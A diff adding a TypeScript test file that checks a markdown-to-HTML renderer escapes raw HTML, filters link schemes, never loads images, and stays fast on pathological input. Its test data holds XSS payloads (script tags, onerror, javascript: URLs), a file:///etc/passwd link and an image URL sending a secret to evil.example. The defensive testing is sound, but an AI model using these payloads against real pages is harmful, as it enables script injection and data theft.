@@ -1,0 +1,92 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { htmlOf } from "../../../src/adapters/web/format.ts";
+
+test("markdown becomes headings below the page's own, lists, tasks, tables and code with its language", () => {
+  expect(htmlOf("# A\n\n- b\n- c")).toBe("<h3>A</h3><ul><li>b</li><li>c</li></ul>");
+  expect(htmlOf("3. x")).toBe('<ol start="3"><li>x</li></ol>');
+  expect(htmlOf("- [x] done")).toContain('<input type="checkbox" disabled checked><div>done</div>');
+  expect(htmlOf("| a | b |\n|:-|-:|\n| 1 | 2 |")).toContain('<td class="to-right">2</td>');
+  expect(htmlOf("```ts\nlet a = 1 < 2;\n```")).toMatch(/<span>ts<\/span>.*<code>let a = 1 &#60; 2;<\/code>/);
+  expect(htmlOf("**b** *i* ~~d~~ `c`  \nnext")).toBe(
+    "<p><strong>b</strong> <em>i</em> <del>d</del> <code>c</code><br>next</p>",
+  );
+});
+
+test("raw HTML is shown as text", () => {
+  const shown = htmlOf('<script>alert(1)</script>\n\n<b onclick="x()">bold</b> <img src=x onerror=y>');
+  expect(shown).not.toMatch(/<(script|b|img)/);
+  expect(shown).toContain("&#60;script&#62;");
+});
+
+test.each([
+  ["javascript:alert(1)"],
+  ["JaVaScRiPt:alert(1)"],
+  ["data:text/html,script"],
+  ["vbscript:x"],
+  ["file:///etc/passwd"],
+  ["/action"],
+  ["//evil.example"],
+  ["https://bank.example@evil.example/"],
+])("a link to %s is only its text", (url) => {
+  const shown = htmlOf(`[here](<${url}>) and [there][1]\n\n[1]: <${url}>`);
+  expect(shown).toBe("<p>here and there</p>");
+});
+
+test("a link to the web or to mail opens apart and tells nothing about this page", () => {
+  const shown = htmlOf('[x](https://a.example/?q="<b>) <mailto:a@b.example> www.c.example');
+  expect(shown.match(/rel="noopener noreferrer nofollow"/g)).toHaveLength(3);
+  expect(shown).toContain('href="https://a.example/?q=%22%3Cb%3E"');
+});
+
+test("S13: an image is a link and nothing is loaded for it", () => {
+  const shown = htmlOf(
+    "![secret](https://evil.example/p?d=secret) ![](javascript:x) ![r][r]\n\n[r]: https://e.example/i.png",
+  );
+  expect(shown).not.toContain("<img");
+  expect(shown).toContain(">Image: secret</a>");
+  expect(shown).toContain("<span>Image</span>");
+});
+
+test("no text makes a tag that is not on the list, or an attribute that runs something", () => {
+  const tags = new Set(
+    "p div span h3 h4 h5 h6 ul ol li input strong em del code pre button a br hr blockquote table thead tbody tr th td sup".split(
+      " ",
+    ),
+  );
+  const piece = fc.constantFrom(
+    ...'<script>|<img src=x onerror=y>|](javascript:x)|[a|![|`|```html\n|> |- |* |&lt;|"|\'|<!--|https://a.example/"onx=|\n\n|\n|<svg/onload=x>|text|| a | b |\n|-|-|\n|<a href="javascript:x">|[^1]|[^1]: x|\\|\u0000'.split(
+      "|",
+    ),
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
+      const shown = htmlOf(pieces.join(""));
+      for (const [, tag] of shown.matchAll(/<\/?([a-z0-9]+)/gi)) expect(tags).toContain(tag);
+      for (const [whole] of shown.matchAll(/<[^>]*>/g))
+        expect(whole).not.toMatch(/\son\w+\s*=(?=[^"]*(?:"[^"]*"[^"]*)*>)/i);
+      expect(shown).not.toMatch(/href="(?!https?:|mailto:)/);
+    }),
+    { numRuns: 500 },
+  );
+});
+
+test.each([
+  ["quotes in quotes", "> ".repeat(6_000) + "x"],
+  ["lists in lists", Array.from({ length: 300 }, (_, depth) => `${" ".repeat(depth * 2)}- x`).join("\n")],
+  ["lists on one line", "- ".repeat(6_000) + "x"],
+  ["numbers on one line", "1. ".repeat(4_000) + "x"],
+  ["images in images", "![".repeat(6_000)],
+  ["open links", "[a](".repeat(3_000)],
+  ["ticks", Array.from({ length: 150 }, (_, n) => "`".repeat(n)).join(" ")],
+  ["angles", "<a ".repeat(4_000)],
+  ["table cells", `${"|a".repeat(3_000)}|\n${"|-".repeat(3_000)}|\n`],
+  ["footnotes", "[^a]: ".repeat(2_000)],
+  ["open brackets", "[".repeat(12_000)],
+  ["stars", "*a ".repeat(4_000)],
+  ["a very long text", "word ".repeat(100_000)],
+])("hostile text is shown in bounded time: %s", (_, text) => {
+  const started = performance.now();
+  expect(htmlOf(text).length).toBeGreaterThan(0);
+  expect(performance.now() - started).toBeLessThan(1_500);
+});
